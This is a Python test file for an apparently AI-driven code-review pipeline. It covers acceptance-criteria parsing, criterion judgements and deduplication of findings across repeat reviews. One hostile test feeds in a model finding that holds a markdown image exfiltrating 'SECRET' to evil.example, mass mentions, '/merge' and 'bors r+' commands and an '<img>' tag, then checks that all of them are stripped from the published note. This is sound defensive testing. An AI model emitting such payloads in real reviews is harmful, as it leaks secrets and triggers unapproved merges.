"""Second reviews: acceptance criteria, and only what is new."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest

from aop.reviews.report import Finding, ReviewVerdict, Severity
from aop.testing.scripted_model import answers
from aop.tickets.mission.criteria import acceptance_criteria
from aop.tickets.mission.descriptions import plain_description
from aop.tickets.review.answer import CriterionState, JudgedCriterion, TicketReview
from tests.tickets.mission.test_blocks import document, paragraph
from tests.tickets.review.test_pipeline import DESCRIPTION, DIFF, WHOLE, Reviewed, finding, report, reviewed
from tests.tickets.scaffold.test_pipeline import URL

LISTED = ("Orders are kept.", "A second order of one id is refused.", "Totals are told.")
ITEMS = "\n".join(f"- {text}" for text in LISTED)
WITH_CRITERIA = f"Please.\n\n## Acceptance criteria\n\n{ITEMS}\n\nThanks.\n\n{DESCRIPTION}"
SILENT = [call for call in WHOLE if call != "publish_review"]


def item(text: str) -> dict[str, Any]:
    return {"type": "listItem", "content": [paragraph(text)]}


@pytest.mark.parametrize(
    "description",
    [
        WITH_CRITERIA,
        f"*Acceptance Criteria:*\n{ITEMS}",
        f"h3. Acceptance criteria\n{ITEMS.replace('- ', '# ')}\n\nh3. Other\n* no criterion",
        f"Acceptance criteria\n{ITEMS.replace('- ', '* [ ] ')}\n",
        "**Acceptance criteria**\n1. Orders are\n   kept.\n2) A second order of one id is refused."
        "\n(3) Totals are told.",
        document(
            {"type": "heading", "attrs": {"level": 2}, "content": [{"type": "text", "text": "Acceptance criteria"}]},
            {"type": "bulletList", "content": [item(text) for text in LISTED]},
            paragraph("Thanks."),
        ),
    ],
)
def test_criteria_are_found_however_they_are_listed(description: Any) -> None:
    assert acceptance_criteria(plain_description(description)) == LISTED


@pytest.mark.parametrize("text", ["", "Acceptance criteria: it works", "Acceptance criteria\n\nProse.", "- a\n- b"])
def test_what_is_no_list_of_criteria_is_none(text: str) -> None:
    assert acceptance_criteria(text) == ()


def judged(*states: tuple[int, CriterionState, str], verdict: ReviewVerdict = ReviewVerdict.APPROVE) -> TicketReview:
    said = tuple(JudgedCriterion(number=number, state=state, evidence=where) for number, state, where in states)
    return TicketReview(verdict=verdict, summary="Looked at it.", criteria=said)


def test_every_criterion_is_shown_as_met_not_met_or_not_shown() -> None:
    around = Reviewed()
    said = judged(
        (1, CriterionState.MET, "src/a.py"), (2, CriterionState.NOT_MET, "no check"), (9, CriterionState.MET, "?")
    )
    reviewed(around, answers(said), description=WITH_CRITERIA)
    (note,) = around.notes
    assert (
        "**Review: REQUEST_CHANGES** (no findings)\n\nLooked at it.\n\nAcceptance criteria:\n"
        "1. **met**: Orders are kept. (src/a.py)\n"
        "2. **not met**: A second order of one id is refused. (no check)\n"
        "3. **not shown**: Totals are told.\n\nAOP-Review: 1 "
    ) in note.body
    assert around.written[-1] == (
        f"Review done: {URL}\nVerdict: REQUEST_CHANGES; no findings.\n1. met: Orders are kept.\n"
        "2. not met: A second order of one id is refused.\n3. not shown: Totals are told.\nLooked at it."
    )


def test_the_model_is_asked_for_each_criterion_by_its_number() -> None:
    _, model = reviewed(Reviewed(), answers(judged()), description=WITH_CRITERIA)
    assert "1. Orders are kept.\n2. A second order" in str(model.asked[0].turns[0]).replace("\\n", "\n")


def test_a_second_review_that_finds_the_same_in_other_words_is_silent() -> None:
    around = Reviewed()
    first = finding("src/a.py", 2)
    reviewed(around, answers(report(first)), run_id="run-1")
    again = msgspec.structs.replace(first, description="Evil eval.")
    before, calls_before = list(around.notes), len(around.calls)
    ending, _ = reviewed(around, answers(report(again)), run_id="run-2")
    assert (around.notes, around.calls[calls_before:]) == (before, SILENT)
    assert (ending["report"]["findings"], len(ending["report"]["carried_over"])) == ((), 1)
    assert "No news since the last review" in around.written[-1]
    assert "Still open from earlier reviews: 1 finding." in around.written[-1]


def test_a_finding_that_a_report_has_twice_is_written_once() -> None:
    around = Reviewed()
    again = msgspec.structs.replace(finding("src/a.py", 2), file_path="b/src/a.py")
    reviewed(around, answers(report(finding("src/a.py", 2), again)))
    assert len(around.notes) == 2


def test_a_finding_is_known_again_when_its_line_has_moved() -> None:
    around = Reviewed()
    reviewed(around, answers(report(finding("src/a.py", 2))), run_id="run-1")
    around._diff = DIFF.replace("@@ -0,0 +1,2 @@\n", "@@ -0,0 +1,3 @@\n+import os\n")
    reviewed(around, answers(report(finding("src/a.py", 3))), run_id="run-2")
    assert len(around.notes) == 2


def test_a_second_review_writes_only_what_is_new_and_says_what_became_of_the_rest() -> None:
    around = Reviewed()
    reviewed(around, answers(report(finding("src/a.py", 1), finding("src/a.py", 2))), run_id="run-1")
    _, model = reviewed(around, answers(report(finding("src/a.py", 2), finding("src/a.py", None))), run_id="run-2")
    assert len(around.notes) == 4
    asked = str(model.asked[0].turns[0])
    assert "earlier findings that are open" in asked
    assert asked.count("Bad at src/a.py.") == 2
    summary = around.notes[-1].body
    assert "(1 MAJOR)" in summary
    assert "Earlier findings, not repeated here: 1 still open, 1 not found again." in summary
    assert "AOP-Review: 2 " in summary


def test_a_finding_that_the_model_says_is_still_open_is_carried_over() -> None:
    around = Reviewed()
    ending, _ = reviewed(around, answers(report(finding("src/a.py", 2, Severity.CRITICAL))), run_id="run-1")
    mark = ending["report"]["findings"][0]["fingerprint"]
    said = TicketReview(verdict=ReviewVerdict.APPROVE, summary="Fine.", still_open=(mark, "f" * 16))
    again, _ = reviewed(around, answers(said), run_id="run-2")
    assert (again["report"]["carried_over"], again["report"]["verdict"]) == ((mark,), "REQUEST_CHANGES")


def test_a_finding_that_a_person_resolved_is_neither_repeated_nor_open() -> None:
    around = Reviewed()
    reviewed(around, answers(report(finding("src/a.py", 2, Severity.CRITICAL))), run_id="run-1")
    around.notes = [msgspec.structs.replace(note, resolved="finding/" in note.body) for note in around.notes]
    again, _ = reviewed(around, answers(report(finding("src/a.py", 2))), run_id="run-2")
    assert (again["report"]["findings"], again["report"]["carried_over"]) == ((), ())
    assert len(around.notes) == 3


@pytest.mark.hostile("I05", "I06", "I11")
def test_what_is_published_neither_commands_nor_calls_nor_loads_anything() -> None:
    around = Reviewed()
    evil = Finding(
        file_path="src/a.py",
        severity=Severity.MINOR,
        description="See ![x](https://evil.example/?q=SECRET), [this](https://evil.example/a) @everyone, #12\n/merge",
        recommendation="bors r+ <img src=x> or https://git.example/group/orders ok" + "x" * 3_000,
    )
    reviewed(around, answers(report(evil)))
    said = around.notes[-1].body
    for active in ("evil.example", "@everyone", "\n/merge", "#12", "<img", "bors r+"):
        assert active not in said
    assert "https://git.example/group/orders" in said


def test_what_could_not_be_published_is_told_to_the_ticket() -> None:
    around = Reviewed(fails="publish_review")
    ending, _ = reviewed(around, answers(report(finding("src/a.py", 2))))
    assert (ending["step"], ending["report"]["findings"][0]["line_number"]) == ("publish_review", 2)
    assert "The review could not be published. Its findings:" in around.written[-1]
    assert "`src/a.py`, line 2: **MAJOR**: Bad at src/a.py." in around.written[-1]
    assert "AOP-R" not in around.written[-1]
